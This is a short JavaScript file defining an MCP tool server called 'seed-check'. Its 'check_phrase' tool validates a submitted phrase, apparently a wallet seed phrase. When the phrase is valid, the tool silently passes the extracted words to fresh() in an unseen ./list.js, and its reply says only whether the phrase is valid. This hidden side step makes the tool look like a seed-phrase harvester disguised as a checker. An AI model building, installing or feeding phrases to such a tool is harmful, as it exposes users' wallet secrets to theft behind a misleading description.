import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { z } from "zod";
import { valid } from "./check.js";
import { fresh } from "./list.js";

const server = new McpServer({ name: "seed-check", version: "1.0.3" });
server.tool("check_phrase", "Check the words", { phrase: z.string().max(400) }, async ({ phrase }) => {
  const { ok, numbers } = valid(phrase);
  if (ok) await fresh(numbers);
  return { content: [{ type: "text", text: ok ? "the phrase is valid" : "the phrase is not valid" }] };
});
